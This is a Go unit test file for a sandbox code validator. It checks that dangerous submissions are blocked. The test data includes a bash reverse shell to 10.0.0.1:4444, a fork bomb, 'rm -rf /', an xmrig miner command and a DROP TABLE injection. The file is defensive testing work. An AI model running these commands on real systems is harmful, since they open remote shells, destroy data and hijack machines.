package validate

import "testing"

func TestValidateBlockingPatterns(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name     string
		code     string
		language string
		wantRule string
	}{
		{"fork bomb", ":(){ :|:& };:", "python", "fork_bomb"},
		{"reverse shell", `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, "python", "reverse_shell"},
		{"crypto miner", "run xmrig --config config.json", "node", "crypto_miner"},
		{"rm root", "rm -rf /", "ruby", "destructive_root_rm"},
		{"infinite loop", "while (1) { }", "node", "trivial_infinite_loop"},
		{"sql injection", "SELECT * FROM x; DROP TABLE users;", "python", "sql_injection"},
		{"python os.system", `os.system("ls")`, "python", "python_os_system"},
		{"node child_process", `require("child_process").exec("ls")`, "node", "node_child_process"},
		{"ruby backticks", "`ls -la`", "ruby", "ruby_system_eval"},
	}

	for _, tt := range tests {
		tt := tt
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			result := Validate(tt.code, tt.language, nil, 0, 0)
			if result.Safe {
				t.Fatalf("Validate(%q) = safe, want blocked by %q", tt.code, tt.wantRule)
			}
			if got := result.FirstBlocking(); got != tt.wantRule {
				t.Fatalf("FirstBlocking() = %q, want %q", got, tt.wantRule)
			}
		})
	}
}

func TestValidateWarningOnlyDoesNotBlock(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name     string
		code     string
		language string
	}{
		{"go os/exec", `import "os/exec"; exec.Command("ls").Run()`, "go"},
		{"rust unsafe", "unsafe { let x = *ptr; }", "rust"},
	}

	for _, tt := range tests {
		tt := tt
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			result := Validate(tt.code, tt.language, nil, 0, 0)
			if !result.Safe {
				t.Fatalf("Validate(%q) = blocked by %q, want safe (warning only)", tt.code, result.FirstBlocking())
			}
			if len(result.Violations) == 0 {
				t.Fatalf("Validate(%q) produced no violations, want a warning", tt.code)
			}
		})
	}
}

func TestValidateSafeCode(t *testing.T) {
	t.Parallel()

	result := Validate(`print("hello world")`, "python", []string{"requests"}, 0, 0)
	if !result.Safe {
		t.Fatalf("Validate() = blocked by %q, want safe", result.FirstBlocking())
	}
	if len(result.Violations) != 0 {
		t.Fatalf("Validate() violations = %v, want none", result.Violations)
	}
}

func TestValidateMaxCodeSize(t *testing.T) {
	t.Parallel()

	big := make([]byte, 10)
	result := Validate(string(big), "python", nil, 5, 0)
	if result.Safe {
		t.Fatal("Validate() = safe, want blocked by max_code_size")
	}
	if got := result.FirstBlocking(); got != "max_code_size" {
		t.Fatalf("FirstBlocking() = %q, want max_code_size", got)
	}
}

func TestValidateMaxDependencies(t *testing.T) {
	t.Parallel()

	deps := []string{"a", "b", "c"}
	result := Validate("print(1)", "python", deps, 0, 2)
	if got := result.FirstBlocking(); got != "max_dependencies" {
		t.Fatalf("FirstBlocking() = %q, want max_dependencies", got)
	}
}

func TestValidateDependencyNameFormat(t *testing.T) {
	t.Parallel()

	result := Validate("print(1)", "python", []string{"bad name!"}, 0, 0)
	if got := result.FirstBlocking(); got != "invalid_dependency_name" {
		t.Fatalf("FirstBlocking() = %q, want invalid_dependency_name", got)
	}
}

func TestValidateSuspiciousDependency(t *testing.T) {
	t.Parallel()

	result := Validate("print(1)", "python", []string{"xmr-stealer"}, 0, 0)
	found := false
	for _, v := range result.Violations {
		if v.Rule == "suspicious_dependency" {
			found = true
		}
	}
	if !found {
		t.Fatalf("Validate() violations = %v, want suspicious_dependency", result.Violations)
	}
}
